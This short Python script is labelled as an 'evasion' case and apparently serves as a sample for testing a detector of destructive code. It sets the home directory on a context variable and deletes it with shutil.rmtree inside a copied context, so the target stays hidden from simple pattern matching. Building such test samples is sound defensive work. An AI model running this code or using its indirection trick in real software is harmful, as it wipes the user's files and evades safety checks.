# Evasion: deletes the home directory through a contextvars.ContextVar. The
# target directory is set on a context variable by one function and read back
# with .get() by the cleaner that runs inside a copied context.
import contextvars
import shutil
from pathlib import Path

workdir = contextvars.ContextVar("workdir", default=None)


def configure():
    workdir.set(Path.home())


def clean():
    target = workdir.get()
    if target is not None:
        shutil.rmtree(target, ignore_errors=True)
        print("cleaned", target)


configure()
contextvars.copy_context().run(clean)
